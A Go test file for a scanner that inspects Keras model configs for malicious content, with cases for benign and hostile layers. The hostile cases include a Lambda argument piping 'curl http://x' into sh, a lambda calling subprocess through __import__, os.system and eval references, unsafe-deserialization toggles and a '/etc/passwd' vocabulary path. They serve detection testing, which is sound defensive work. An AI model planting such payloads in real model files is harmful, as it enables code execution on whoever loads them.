package keras

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/policy"
	"github.com/modelscan-go/modelscan/internal/rules"
)

var testPolicy = policy.Default()

func analyze(t *testing.T, doc string, f Format) (*Result, error) {
	t.Helper()
	return Analyze([]byte(doc), Options{Format: f, Policy: testPolicy})
}

func dump(r *Result) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "  %s %s mod=%q op=%q off=%d ev=%q\n", f.Severity, f.Rule, f.Module, f.Operator, f.Offset, f.Evidence)
	}
	return b.String()
}

// marshalB64 returns the base64 marshal sample key of CPython version file.
func marshalB64(t *testing.T, file, key string) string {
	t.Helper()
	fx := loadMarshalFixtures(t)[file]
	s, ok := fx.Samples[key]
	if !ok {
		t.Fatalf("no sample %s in %s", key, file)
	}
	return s.Base64
}

// k3 builds a Keras 3 object.
func k3(module, cls string, config string) string {
	return fmt.Sprintf(`{"module": %q, "class_name": %q, "config": %s, "registered_name": null}`, module, cls, config)
}

func seq3(layers ...string) string {
	return k3("keras", "Sequential", `{"name": "sequential", "layers": [`+strings.Join(layers, ", ")+`]}`)
}

func seq2(layers ...string) string {
	return `{"class_name": "Sequential", "config": {"name": "sequential", "layers": [` + strings.Join(layers, ", ") + `]}}`
}

const dense2 = `{"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu",
	"kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": null}},
	"bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": {"class_name": "L2", "config": {"l2": NaN}}}}`

func lambda2(name, function, ftype, module string) string {
	return fmt.Sprintf(`{"class_name": "Lambda", "config": {"name": %q, "function": %s, "function_type": %q, "module": %q, "arguments": {}}}`,
		name, function, ftype, module)
}

func TestAnalyzeBenign(t *testing.T) {
	cases := map[string]string{
		"keras2 sequential": seq2(`{"class_name": "InputLayer", "config": {"batch_input_shape": [null, 4], "name": "in"}}`, dense2),
		"keras3 sequential": seq3(k3("keras.layers", "Dense", `{"name": "d", "units": 2, "dtype": `+k3("keras", "DTypePolicy", `{"name": "float32"}`)+`,
			"kernel_initializer": `+k3("keras.initializers", "GlorotUniform", `{"seed": null}`)+`}`)),
		"keras3 functional": `{"module": "keras.src.models.functional", "class_name": "Functional", "config": {"name": "f", "layers": []}, "registered_name": "Functional",
			"compile_config": {"optimizer": ` + k3("keras.optimizers", "Adam", `{"learning_rate": 0.001}`) + `, "loss": ` + k3("keras.losses", "MeanSquaredError", `{}`) + `}}`,
		"builtins function (keras <= 3.6)": seq3(k3("keras.layers", "Dense", `{"name": "d", "activation": {"module": "builtins", "class_name": "function", "config": "relu", "registered_name": "function"}}`)),
		"keras3 function":                  seq3(k3("keras.layers", "Dense", `{"name": "d", "activation": {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": null}}`)),
		"custom adam":                      `{"loss": "mse", "optimizer_config": {"class_name": "Custom>Adam", "config": {"name": "Adam"}}}`,
		"tfoplambda":                       seq2(`{"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "function": "math.add"}}`),
		"typespec": `{"class_name": "__typespec__", "spec_name": "TensorSpec", "module": "tensorflow.python.framework.tensor_spec",
			"registered_name": null, "config": [[null, 4], "float32", null]}`,
		"metadata shapes":          `{"name": "d", "class_name": "Dense", "config": {"name": "d"}, "build_input_shape": {"class_name": "TensorShape", "items": [null, 4]}, "f": {"class_name": "__tuple__", "items": [1]}}`,
		"vocabulary list":          seq3(k3("keras.layers", "StringLookup", `{"name": "l", "vocabulary": ["a", "b"]}`)),
		"vocabulary null":          seq3(k3("keras.layers", "TextVectorization", `{"name": "l", "vocabulary": null, "idf_weights": null}`)),
		"plain dict class_name":    `{"class_name": "Sequential", "config": {"labels": {"class_name": "cat"}}}`,
		"keras2 .keras functional": `{"module": "keras.src.engine.functional", "class_name": "Functional", "config": {"name": "m", "layers": []}, "registered_name": "Functional"}`,
	}
	for name, doc := range cases {
		t.Run(name, func(t *testing.T) {
			r, err := analyze(t, doc, FormatKeras)
			if err != nil {
				t.Fatal(err)
			}
			if len(r.Findings) > 0 {
				t.Errorf("findings on a benign config:\n%s", dump(r))
			}
		})
	}
}

type want struct {
	rule string
	sev  core.Severity
	op   string // operator, "" for any
	ev   string // substring of the evidence, "" for any
}

func TestAnalyzeFindings(t *testing.T) {
	benign311 := marshalB64(t, "py311.json", "benign")
	system38 := marshalB64(t, "py38.json", "system")
	system313 := marshalB64(t, "py313.json", "system")
	raw, _ := base64.StdEncoding.DecodeString(marshalB64(t, "py311.json", "system"))
	latin := make([]rune, len(raw))
	for i, c := range raw {
		latin[i] = rune(c) // the bytes as latin-1 text, as raw_unicode_escape gives them
	}
	latinJSON, _ := json.Marshal(string(latin))
	// two more header ints than any CPython wrote: no layout fits
	badLayout := base64.StdEncoding.EncodeToString(append(append([]byte{raw[0]}, make([]byte, 8)...), raw[1:]...))
	torch := base64.StdEncoding.EncodeToString([]byte("PK\x03\x04fake torch archive"))
	cases := []struct {
		name string
		doc  string
		want []want
	}{
		{"benign lambda", seq2(lambda2("double", fmt.Sprintf("[%q, null, null]", benign311), "lambda", "__main__")),
			[]want{{rules.KerasLambda, core.Medium, "Lambda", `"double" (Lambda) at config.layers[0]: marshalled bytecode (CPython 3.11+)`}}},
		{"system lambda py3.8", seq2(dense2, lambda2("l", fmt.Sprintf("[%q, null, null]", system38), "lambda", "__main__")),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "dangerous: __import__, system, os"}}},
		{"metadata tuple form", `{"name": "l", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": [` +
			fmt.Sprintf("%q", system313) + `, null, null]}, "function_type": "lambda"}}`,
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "CPython 3.11+"}}},
		{"keras3 __lambda__ value form", seq3(k3("keras.layers", "Lambda", `{"name": "l", "function": {"class_name": "__lambda__", "config": {"value": [`+
			fmt.Sprintf("%q", system38)+`, null, null]}}}`)),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "system"}}},
		{"raw_unicode_escape marshal", seq2(lambda2("l", string(latinJSON), "lambda", "__main__")),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "__import__"}}},
		{"source lambda", seq2(lambda2("l", `"lambda x: __import__(\"subprocess\").getoutput(\"id\")"`, "raw", "__main__")),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "Python source text"}}},
		{"benign source lambda", seq2(lambda2("l", `"lambda x: x + 1"`, "raw", "__main__")),
			[]want{{rules.KerasLambda, core.Medium, "Lambda", ""}}},
		{"function reference", seq2(lambda2("l", `"system"`, "function", "os")),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", `reference to "os.system"`}}},
		{"undecodable code", seq2(lambda2("l", `["AAAAAAAAAAAAAAAAAAAAAAAA", null, null]`, "lambda", "__main__")),
			[]want{{rules.KerasLambda, core.Medium, "Lambda", "could not decode"}}},
		{"truncated marshal", seq2(lambda2("l", fmt.Sprintf("[%q, null, null]", system313[:60]), "lambda", "__main__")),
			[]want{{rules.KerasLambda, core.Medium, "Lambda", "could not decode"}}},
		{"unknown code layout", seq2(lambda2("l", fmt.Sprintf("[%q, null, null]", badLayout), "lambda", "__main__")),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "byte scan"}}},
		{"lambda without function", seq2(`{"class_name": "Lambda", "config": {"name": "l"}}`),
			[]want{{rules.KerasLambda, core.Medium, "Lambda", "no function"}}},
		{"lambda arguments", seq2(fmt.Sprintf(`{"class_name": "Lambda", "config": {"name": "l", "function": [%q, null, null], "function_type": "lambda", "arguments": {"cmd": "curl http://x | sh"}}}`, benign311)),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "curl"}}},
		{"lambda in nested model and wrapper", seq2(`{"class_name": "Functional", "config": {"name": "inner", "layers": [{"class_name": "TimeDistributed", "config": {"name": "td", "layer": ` +
			lambda2("deep", fmt.Sprintf("[%q, null, null]", system38), "lambda", "__main__") + `}}]}}`),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", `"deep" (Lambda) at config.layers[0].config.layers[0].config.layer`}}},
		{"keras3 named function lambda", seq3(k3("keras.layers", "Lambda", `{"name": "l", "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}`)),
			[]want{{rules.KerasLambda, core.Critical, "Lambda", "os.system"}, {rules.KerasUnsafeObject, core.Critical, "system", "os.system"}}},
		{"__lambda__ as activation", seq3(k3("keras.layers", "Dense", `{"name": "d", "activation": {"class_name": "__lambda__", "config": {"code": `+fmt.Sprintf("%q", system38)+`}}}`)),
			[]want{{rules.KerasLambda, core.Critical, "__lambda__", "activation"}}},
		{"bytecode hidden in a string", seq3(k3("my.pkg", "Layer", `{"name": "d", "blob": `+fmt.Sprintf("%q", system313)+`}`)),
			[]want{{rules.KerasLambda, core.Critical, "marshal", "blob"}, {rules.KerasCustomObject, core.Medium, "Layer", ""}}},
		{"os.system object", seq3(k3("os", "system", `{}`)),
			[]want{{rules.KerasUnsafeObject, core.Critical, "system", `module "os"`}}},
		{"posix alias", seq3(`{"module": "posix", "class_name": "function", "config": "system", "registered_name": "function"}`),
			[]want{{rules.KerasUnsafeObject, core.Critical, "system", ""}}},
		{"builtins eval", seq3(k3("keras.layers", "Dense", `{"name": "d", "activation": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}}`)),
			[]want{{rules.KerasUnsafeObject, core.Critical, "eval", "builtins.eval"}}},
		{"builtins print", seq3(`{"module": "builtins", "class_name": "function", "config": "print", "registered_name": "function"}`),
			[]want{{rules.KerasUnsafeObject, core.High, "print", "Python built-in"}}},
		{"builtins custom function (keras <= 3.6)", seq3(`{"module": "builtins", "class_name": "function", "config": "my_loss", "registered_name": "function"}`),
			[]want{{rules.KerasCustomObject, core.Medium, "my_loss", ""}}},
		{"stdlib function", seq3(`{"module": "shlex", "class_name": "function", "config": "split", "registered_name": "function"}`),
			[]want{{rules.KerasUnsafeObject, core.High, "split", "standard-library"}}},
		{"registered_name lookup", seq3(`{"module": "os", "class_name": "Harmless", "config": {}, "registered_name": "system"}`),
			[]want{{rules.KerasUnsafeObject, core.Critical, "Harmless", `registered_name "system"`}}},
		{"main module", seq3(`{"module": "__main__", "class_name": "MyLayer", "config": {"name": "m"}, "registered_name": "MyLayer"}`),
			[]want{{rules.KerasCustomObject, core.Medium, "MyLayer", "__main__"}}},
		{"registered custom layer", seq3(`{"module": "my_package.layers", "class_name": "MyLayer", "config": {"name": "m"}, "registered_name": "MyPackage>MyLayer"}`),
			[]want{{rules.KerasCustomObject, core.Medium, "MyLayer", `registered_name "MyPackage>MyLayer"`}}},
		{"keras2 custom class", seq2(`{"class_name": "FixedDropout", "config": {"name": "fd"}}`),
			[]want{{rules.KerasCustomObject, core.Medium, "FixedDropout", ""}}},
		{"keras2 registered custom", seq2(`{"class_name": "MyPackage>MyLayer", "config": {"name": "fd"}}`),
			[]want{{rules.KerasCustomObject, core.Medium, "MyLayer", ""}}},
		{"keras2 dotted class", seq2(`{"class_name": "subprocess.Popen", "config": {"args": "id"}}`),
			[]want{{rules.KerasUnsafeObject, core.Critical, "Popen", "subprocess.Popen"}}},
		{"keras_hub class", seq3(`{"module": "keras_hub.src.models.gemma.gemma_backbone", "class_name": "GemmaBackbone", "config": {"name": "g"}, "registered_name": "keras_hub>GemmaBackbone"}`),
			[]want{{rules.KerasCustomObject, core.Low, "GemmaBackbone", "ecosystem"}}},
		{"addons registered", seq2(`{"class_name": "Addons>GroupNormalization", "config": {"name": "g"}}`),
			[]want{{rules.KerasCustomObject, core.Low, "GroupNormalization", ""}}},
		{"unlisted keras class", seq3(k3("keras.layers", "FancyNewLayer", `{"name": "n"}`)),
			[]want{{rules.KerasCustomObject, core.Low, "FancyNewLayer", "not in the list"}}},
		{"unlisted keras file function", seq3(`{"module": "keras.src.utils.file_utils", "class_name": "function", "config": "copy_tree_to_path", "registered_name": "function"}`),
			[]want{{rules.KerasFileGadget, core.High, "copy_tree_to_path", ""}}},
		{"enable_unsafe_deserialization", seq3(`{"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}`),
			[]want{{rules.KerasUnsafeDeserialization, core.Critical, "enable_unsafe_deserialization", `module "keras.config"`}}},
		{"enable_unsafe_deserialization impl module", seq3(`{"module": "keras.src.saving.serialization_lib", "class_name": "function", "config": "enable_unsafe_deserialization"}`),
			[]want{{rules.KerasUnsafeDeserialization, core.Critical, "", ""}}},
		{"enable_unsafe_deserialization keras2", seq2(`{"class_name": "enable_unsafe_deserialization", "config": {}}`),
			[]want{{rules.KerasUnsafeDeserialization, core.Critical, "", ""}}},
		{"SafeModeScope", seq3(`{"module": "keras.src.saving.serialization_lib", "class_name": "SafeModeScope", "config": {"safe_mode": false}}`),
			[]want{{rules.KerasUnsafeDeserialization, core.Critical, "SafeModeScope", ""}}},
		{"unsafe deserialization in a string", seq2(`{"class_name": "TFOpLambda", "config": {"name": "x", "function": "keras.config.enable_unsafe_deserialization"}}`),
			[]want{{rules.KerasUnsafeDeserialization, core.Critical, "", "string value"}}},
		{"get_file", seq3(`{"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}`),
			[]want{{rules.KerasFileGadget, core.Critical, "get_file", ""}}},
		{"get_file impl", seq3(`{"module": "keras.src.utils.file_utils", "class_name": "function", "config": "get_file"}`),
			[]want{{rules.KerasFileGadget, core.Critical, "get_file", ""}}},
		{"tf.keras get_file", seq3(`{"module": "tensorflow.keras.utils", "class_name": "function", "config": "get_file"}`),
			[]want{{rules.KerasFileGadget, core.Critical, "get_file", ""}}},
		{"load_model", seq3(`{"module": "keras.models", "class_name": "function", "config": "load_model"}`),
			[]want{{rules.KerasFileGadget, core.Critical, "load_model", ""}}},
		{"dataset load_data", seq3(`{"module": "keras.datasets.mnist", "class_name": "function", "config": "load_data"}`),
			[]want{{rules.KerasFileGadget, core.Critical, "load_data", ""}}},
		{"tfoplambda write_file", seq2(`{"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}}`),
			[]want{{rules.KerasFileGadget, core.High, "tf.io.write_file", ""}}},
		{"tfoplambda load_op_library", seq2(`{"class_name": "TFOpLambda", "config": {"name": "w", "function": "load_op_library"}}`),
			[]want{{rules.KerasFileGadget, core.Critical, "tf.load_op_library", ""}}},
		{"stringlookup path", seq3(k3("keras.layers", "StringLookup", `{"name": "l", "vocabulary": "/etc/passwd"}`)),
			[]want{{rules.KerasExternalPath, core.High, "StringLookup", `vocabulary "/etc/passwd"`}}},
		{"integerlookup url", seq2(`{"class_name": "IntegerLookup", "config": {"name": "l", "vocabulary": "gs://bucket/v.txt"}}`),
			[]want{{rules.KerasExternalPath, core.High, "IntegerLookup", "gs://"}}},
		{"textvectorization experimental", seq3(k3("keras.layers.experimental.preprocessing", "TextVectorization", `{"name": "l", "vocabulary": "https://example.invalid/v"}`)),
			[]want{{rules.KerasExternalPath, core.High, "TextVectorization", ""}}},
		{"tfsmlayer", seq3(k3("keras.layers", "TFSMLayer", `{"name": "t", "filepath": "/tmp/x"}`)),
			[]want{{rules.KerasExternalPath, core.High, "TFSMLayer", `filepath "/tmp/x"`}}},
		{"hub keraslayer", seq2(`{"class_name": "KerasLayer", "config": {"name": "h", "handle": "https://tfhub.dev/x/1"}}`),
			[]want{{rules.KerasExternalPath, core.High, "KerasLayer", ""}, {rules.KerasCustomObject, core.Medium, "KerasLayer", ""}}},
		{"torch module wrapper", seq3(k3("keras.layers", "TorchModuleWrapper", `{"name": "t", "module": `+fmt.Sprintf("%q", torch)+`}`)),
			[]want{{rules.KerasTorchModule, core.Medium, "TorchModuleWrapper", "torch.save"}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := analyze(t, c.doc, FormatKeras)
			if err != nil {
				t.Fatalf("%v\n%s", err, dump(r))
			}
			if len(r.Findings) != len(c.want) {
				t.Errorf("%d findings, want %d:\n%s", len(r.Findings), len(c.want), dump(r))
			}
			for _, w := range c.want {
				found := false
				for _, f := range r.Findings {
					if f.Rule == w.rule && f.Severity == w.sev && (w.op == "" || f.Operator == w.op) && strings.Contains(f.Evidence, w.ev) {
						found = true
						if f.Scanner != ScannerKeras || f.Offset < 0 || f.Description == "" {
							t.Errorf("finding fields: %+v", f)
						}
					}
				}
				if !found {
					t.Errorf("no %s %s op=%q ev~%q in:\n%s", w.sev, w.rule, w.op, w.ev, dump(r))
				}
			}
		})
	}
}

func TestAnalyzeTorchEmbedded(t *testing.T) {
	payload := []byte("PK\x03\x04fake torch archive")
	doc := seq3(k3("keras.layers", "TorchModuleWrapper", `{"name": "t", "module": `+fmt.Sprintf("%q", base64.StdEncoding.EncodeToString(payload))+`}`))
	r, err := analyze(t, doc, FormatKeras)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Embedded) != 1 || string(r.Embedded[0].Data) != string(payload) || !strings.Contains(r.Embedded[0].Name, "config.layers[0]") {
		t.Errorf("embedded %+v", r.Embedded)
	}
}

func TestAnalyzeDedup(t *testing.T) {
	var layers []string
	for i := range 5 {
		layers = append(layers, fmt.Sprintf(`{"class_name": "FixedDropout", "config": {"name": "fd_%d"}}`, i))
	}
	r, err := analyze(t, seq2(layers...), FormatH5)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) != 1 || !strings.Contains(r.Findings[0].Evidence, "(and 4 more places)") ||
		!strings.Contains(r.Findings[0].Evidence, `"fd_0"`) || r.Findings[0].Scanner != ScannerH5 {
		t.Errorf("want one finding for five uses:\n%s", dump(r))
	}
	// past the cap of distinct findings, one finding per rule and severity
	layers = layers[:0]
	for i := range maxFindings + 50 {
		layers = append(layers, fmt.Sprintf(`{"class_name": "Custom%d", "config": {}}`, i))
	}
	layers = append(layers, `{"module": "os", "class_name": "system", "config": {}}`)
	r, _ = analyze(t, seq3(layers...), FormatKeras)
	if len(r.Findings) > maxFindings+2 {
		t.Errorf("%d findings, cap %d", len(r.Findings), maxFindings)
	}
	critical := false
	for _, f := range r.Findings {
		critical = critical || f.Severity == core.Critical
	}
	if !critical {
		t.Error("a CRITICAL finding past the cap was lost")
	}
}

func TestAnalyzeErrors(t *testing.T) {
	system38 := marshalB64(t, "py38.json", "system")
	// cut in the middle: the Lambda read before the cut is still reported
	doc := seq2(lambda2("l", fmt.Sprintf("[%q, null, null]", system38), "lambda", "__main__"), dense2)
	cut := doc[:len(doc)-40]
	r, err := analyze(t, cut, FormatH5)
	if !errors.Is(err, ErrSyntax) || !IsSyntax(err) {
		t.Errorf("err %v, want a syntax error", err)
	}
	if len(r.Findings) == 0 || r.Findings[0].Severity != core.Critical {
		t.Errorf("findings before the error lost:\n%s", dump(r))
	}
	if _, err := Analyze([]byte(doc), Options{MaxBytes: 10}); !IsLimit(err) {
		t.Errorf("size limit: %v", err)
	}
	if _, err := Analyze([]byte(doc), Options{MaxValues: 5}); !IsLimit(err) {
		t.Errorf("value limit: %v", err)
	}
	if _, err := Analyze([]byte(strings.Repeat("[", 600)+strings.Repeat("]", 600)), Options{}); !IsLimit(err) {
		t.Errorf("depth limit: %v", err)
	}
	// UTF-16: analysed, offsets dropped
	r, err = Analyze(utf16le(doc, true), Options{Format: FormatSavedModel})
	if err != nil || len(r.Findings) != 1 || r.Findings[0].Offset != -1 || r.Findings[0].Scanner != ScannerSavedModel {
		t.Errorf("utf-16: %v\n%s", err, dump(r))
	}
}

func TestSniff(t *testing.T) {
	yes := []string{
		`{"class_name": "Sequential", "config": {"name": "s", "layers": [`,
		`{"module": "keras", "class_name": "Sequential", "config": {`,
		`  {"module": "keras", "class_name": "Functional"`,
		`{"class_name": "Model", "config": {}, "keras_version": "2.4.0", "backend": "tensorflow"}`,
	}
	no := []string{
		`{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768}`,
		`{"config": {"class_name": "x"}}`,
		`{"class_name": 5, "config": {}}`,
		`{"_class_name": "UNet2DModel", "config": {}}`,
		`[{"class_name": "Sequential", "config": {}}]`,
		`{"keras_version": "3.3.3", "date_saved": "2024"}`,
		`not json`,
	}
	for _, s := range yes {
		if !Sniff([]byte(s)) {
			t.Errorf("not sniffed: %s", s)
		}
	}
	for _, s := range no {
		if Sniff([]byte(s)) {
			t.Errorf("sniffed: %s", s)
		}
	}
	if !SniffMetadata([]byte(`{"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}`)) {
		t.Error("metadata.json not recognised")
	}
}
